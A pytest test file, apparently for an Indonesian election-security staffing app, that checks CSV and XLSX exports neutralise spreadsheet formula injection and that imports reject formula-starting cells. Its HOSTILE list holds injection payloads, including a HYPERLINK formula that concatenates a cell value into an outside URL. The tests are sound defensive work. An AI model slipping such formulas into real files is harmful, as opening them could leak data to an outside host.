"""Text is never a formula in a file the product writes, and an import refuses what a spreadsheet
would run (core.spreadsheets): a name or an address saved by one admin must not become a live
formula in the file a read-only command officer opens.

Written: a leading apostrophe in CSV, a quote-prefixed string cell in XLSX; a phone +62… stays
readable and re-imports equal. Read: the marked form is text; unmarked, every formula start is
refused per cell, except a valid phone and a signed coordinate.
"""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import csv_cell, read_cell
from deployments.coverage import coverage_recompute
from deployments.imports import (
    import_job_apply,
    import_job_claim,
    import_job_create,
    import_job_validate,
)
from deployments.models import Force, ImportJob, Personnel
from tests.admin.helpers import PERSONNEL_COLUMNS, TPS_COLUMNS, csv_bytes, row
from tests.factories import (
    AssignmentFactory,
    LinmasFactory,
    PolsekFactory,
    SatlinmasFactory,
    SecurityPatternFactory,
    TPSFactory,
)
from tps.models import TPS

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://x/"&A2,"k")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
# What an import gives back equal: tabs and carriage returns are whitespace to every text cell.
ROUND_TRIP = HOSTILE[:4]
PHONE = "+6281234567890"
P, T, A = ImportJob.Kind.PERSONNEL, ImportJob.Kind.TPS, ImportJob.Kind.ASSIGNMENT


def _core(text: str) -> str:
    """The part of a hostile text that survives any reader (XML turns a lone CR into LF)."""
    return text.lstrip("\t\r\n")


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _assert_csv_text(lines: list[list[str]], texts: list[str]) -> None:
    cells = {cell for line in lines for cell in line}
    for text in texts:
        assert "'" + text in cells, (text, cells)
        assert text not in cells, text


def _assert_xlsx_text(content: bytes, texts: list[str]) -> None:
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
    for text in texts:
        found = [c for c in cells if isinstance(c.value, str) and _core(c.value) == _core(text)]
        assert found, text
        # A string cell, never a formula, and quote-prefixed: text even when someone edits it.
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text


def _reimport(kind: str, content: bytes, name: str, by) -> ImportJob:
    job = import_job_create(kind=kind, file_name=name, content=content, background=False, by=by)
    job = import_job_validate(job_id=job.pk)
    import_job_claim(job=job)
    return import_job_apply(job_id=job.pk, by_id=by.pk)


def _unchanged(job: ImportJob, rows: int) -> bool:
    return job.status == ImportJob.Status.DONE and job.counts == {
        "new": 0,
        "update": 0,
        "skip": rows,
        "invalid": 0,
    }


# The admin's exports


@pytest.fixture
def hostile(election_day, tps_a):
    """One Linmas per hostile name, each with the phone +62…, guarding TPS A; one TPS per
    hostile address in TPS A's desa."""
    unit = SatlinmasFactory(desa=tps_a.desa)
    for text in HOSTILE:
        person = LinmasFactory(unit=unit, name=text, phone=PHONE)
        AssignmentFactory(personnel=person, tps=[tps_a])
    for number, text in enumerate(HOSTILE, start=101):
        TPSFactory(desa=tps_a.desa, number=number, address=text)
    return tps_a


@pytest.fixture
def reimportable(election_day, tps_a):
    """The same with the texts that re-import equal, for the round trip."""
    unit = SatlinmasFactory(desa=tps_a.desa)
    for text in ROUND_TRIP:
        person = LinmasFactory(unit=unit, name=text, phone=PHONE)
        AssignmentFactory(personnel=person, tps=[tps_a])
    for number, text in enumerate(ROUND_TRIP, start=101):
        TPSFactory(desa=tps_a.desa, number=number, address=text)
    return tps_a


LISTS = [
    ("deployments/personnel", P, len(ROUND_TRIP)),
    ("tps/tps", T, 1 + len(ROUND_TRIP)),
    ("deployments/assignment", A, len(ROUND_TRIP)),
]


@pytest.mark.parametrize("model", [m for m, _k, _n in LISTS])
def test_an_admin_list_in_csv_writes_formula_starts_as_text(login, ops_admin, hostile, model):
    response = login(ops_admin).get(f"/admin/{model}/export/", {"_format": "csv"})

    lines = _csv(response.content)
    _assert_csv_text(lines, HOSTILE)
    if model == "tps/tps":  # numbers stay numbers: a latitude is not a text cell
        column = lines[0].index("Lintang")
        assert {line[column] for line in lines[1:-1]} == {"-7.815000"}


@pytest.mark.parametrize("model", [m for m, _k, _n in LISTS])
def test_an_admin_list_in_xlsx_writes_formula_starts_as_text(login, ops_admin, hostile, model):
    response = login(ops_admin).get(f"/admin/{model}/export/")

    _assert_xlsx_text(response.content, HOSTILE)


def test_the_sprin_annex_writes_formula_starts_as_text(login, ops_admin, hostile, mojoroto):
    response = login(ops_admin).get(
        "/admin/deployments/assignment/lampiran-sprin/", {"kecamatan": mojoroto.pk}
    )

    assert response.status_code == 200
    _assert_xlsx_text(response.content, HOSTILE)


def test_a_phone_stays_readable_text_in_both_formats(login, ops_admin, hostile):
    client = login(ops_admin)

    lines = _csv(client.get("/admin/deployments/personnel/export/", {"_format": "csv"}).content)
    book = load_workbook(io.BytesIO(client.get("/admin/deployments/personnel/export/").content))

    column = lines[0].index("Telepon")
    # CSV has no types: the apostrophe keeps Excel from reading a number (6,28E+12) or a sum.
    assert {line[column] for line in lines[1:-1]} == {"'" + PHONE}
    phones = [r[column] for r in book.worksheets[0].iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in phones} == {(PHONE, "s")}


@pytest.mark.parametrize(("model", "kind", "rows"), LISTS)
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_exported_list_with_formula_starts_and_phones_reimports_unchanged(
    login, ops_admin, reimportable, model, kind, rows, file_format
):
    response = login(ops_admin).get(f"/admin/{model}/export/", {"_format": file_format})

    job = _reimport(kind, response.content, f"data.{file_format}", ops_admin)

    assert _unchanged(job, rows), (job.status, job.counts, job.errors, job.message)
    assert set(Personnel.objects.filter(name__in=ROUND_TRIP).values_list("phone", flat=True)) == {
        PHONE
    }


def test_the_sprin_annex_with_formula_starts_reimports_unchanged(
    login, ops_admin, reimportable, mojoroto
):
    response = login(ops_admin).get(
        "/admin/deployments/assignment/lampiran-sprin/", {"kecamatan": mojoroto.pk}
    )

    job = _reimport(A, response.content, "annex.xlsx", ops_admin)

    assert _unchanged(job, len(ROUND_TRIP)), (job.status, job.counts, job.errors)


# The dashboard's exports


@pytest.fixture
def hostile_gap(election_day, tps_a):
    """TPS A guarded, a second TPS of its desa unguarded (one gap); the desa and the kecamatan
    get hostile names per test."""
    SecurityPatternFactory(
        operation=election_day,
        kerawanan="kurang_rawan",
        force=Force.LINMAS,
        personnel_count=1,
        tps_count=1,
    )
    AssignmentFactory(personnel=LinmasFactory(unit=SatlinmasFactory(desa=tps_a.desa)), tps=[tps_a])
    TPSFactory(desa=tps_a.desa, number=7)
    return tps_a


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("table", ["gaps", "areas"])
def test_the_dashboard_exports_write_formula_starts_as_text(
    login, command_staff, hostile_gap, text, table
):
    desa, kecamatan = hostile_gap.desa, hostile_gap.desa.kecamatan
    desa.name, kecamatan.name = text, text
    desa.save(update_fields=["name"])
    kecamatan.save(update_fields=["name"])
    coverage_recompute()
    client = login(command_staff)

    csv_response = client.get(f"/export/{table}/", {"format": "csv"})
    xlsx_response = client.get(f"/export/{table}/")

    _assert_csv_text(_csv(b"".join(csv_response.streaming_content)), [text])
    _assert_xlsx_text(xlsx_response.content, [text])


# Imports


@pytest.fixture
def polsek_mojoroto(mojoroto):
    return PolsekFactory(kecamatan=mojoroto)


@pytest.mark.parametrize("text", HOSTILE)
def test_an_import_refuses_each_formula_start_naming_the_cell(ops_admin, polsek_mojoroto, text):
    content = csv_bytes(
        PERSONNEL_COLUMNS,
        [
            row(
                PERSONNEL_COLUMNS,
                matra="Polri",
                nrp_no_registrasi="85061234",
                nama=text,
                pangkat="Bripka",
                satuan="Polsek Mojoroto",
            )
        ],
    )

    job = import_job_validate(
        job_id=import_job_create(
            kind=P, file_name="data.csv", content=content, background=False, by=ops_admin
        ).pk
    )

    assert job.status == ImportJob.Status.INVALID
    assert [(e["lines"], e["column"]) for e in job.errors] == [("2", "Nama")]
    assert "rumus" in job.errors[0]["message"]
    assert _core(text).strip() in job.errors[0]["message"]
    assert not Personnel.objects.exists()


def _import(kind, columns, values: dict, by, *, xlsx: bool = False) -> ImportJob:
    if xlsx:
        book = Workbook()
        book.active.append(list(columns))
        book.active.append([values.get(c, "") for c in columns])
        for cells in book.active.iter_rows():
            for cell in cells:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # a text cell as a user typed it, not a formula
        out = io.BytesIO()
        book.save(out)
        content, name = out.getvalue(), "data.xlsx"
    else:
        content, name = csv_bytes(columns, [[values.get(c, "") for c in columns]]), "data.csv"
    job = import_job_create(kind=kind, file_name=name, content=content, background=False, by=by)
    return import_job_validate(job_id=job.pk)


PERSON = {
    "Matra": "Polri",
    "NRP/No. Registrasi": "85061234",
    "Nama": "Andi",
    "Pangkat": "Bripka",
    "Satuan": "Polsek Mojoroto",
}


@pytest.mark.parametrize("xlsx", [False, True])
def test_a_text_cell_starting_with_a_sign_is_refused_in_xlsx_and_csv(
    ops_admin, polsek_mojoroto, xlsx
):
    job = _import(P, PERSONNEL_COLUMNS, {**PERSON, "Korps": "@SUM(A1)"}, ops_admin, xlsx=xlsx)

    assert [(e["column"], e["message"]) for e in job.errors] == [
        (
            "Korps",
            "Sel diawali @ sehingga dibaca spreadsheet sebagai rumus (@SUM(A1)). "
            "Awali dengan tanda kutip ' agar terbaca sebagai teks.",
        )
    ]


def _outcome(job: ImportJob) -> tuple[str, list[tuple[str, bool]]]:
    """The job's status and, per error, its column and whether it names a formula."""
    return job.status, [(e["column"], "rumus" in e["message"]) for e in job.errors]


def test_a_phone_column_takes_a_valid_plus_62_phone_and_refuses_a_sum_as_a_formula(
    ops_admin, polsek_mojoroto
):
    outcomes = [
        _outcome(_import(P, PERSONNEL_COLUMNS, {**PERSON, "Telepon": phone}, ops_admin))
        for phone in (PHONE, "+62 812-3456-7890", "+1+1")
    ]

    assert outcomes == [
        (ImportJob.Status.READY, []),
        (ImportJob.Status.READY, []),
        (ImportJob.Status.INVALID, [("Telepon", True)]),  # not "Nomor telepon tidak valid"
    ]


def test_a_coordinate_may_be_negative_but_a_sum_is_refused_as_a_formula(ops_admin, tps_a):
    def values(latitude: str) -> dict:
        return {
            "Kode Desa": tps_a.desa.code,
            "No. TPS": "050",
            "Lintang": latitude,
            "Bujur": "111.98",
            "Jumlah Pemilih": "300",
        }

    outcomes = [
        _outcome(_import(T, TPS_COLUMNS, values(latitude), ops_admin))
        for latitude in ("-7.815", "-7,815", "+7.815", "-2+3")
    ]

    assert outcomes == [
        (ImportJob.Status.READY, []),
        (ImportJob.Status.READY, []),
        (ImportJob.Status.READY, []),
        (ImportJob.Status.INVALID, [("Lintang", True)]),  # not "Bukan angka"
    ]
    assert not TPS.objects.filter(number=50).exists()


def test_the_neutralised_form_is_read_as_text(ops_admin, polsek_mojoroto):
    job = _import(P, PERSONNEL_COLUMNS, {**PERSON, "Nama": "'=HYPERLINK(1)"}, ops_admin)
    import_job_claim(job=job)
    import_job_apply(job_id=job.pk, by_id=ops_admin.pk)

    assert Personnel.objects.get().name == "=HYPERLINK(1)"


@pytest.mark.parametrize("text", ["=1", "'=1", "''+1", "'Ain", "Ain", "-", "+62812"])
def test_the_csv_mark_round_trips_exactly(text):
    assert read_cell(csv_cell(text))[0] == text
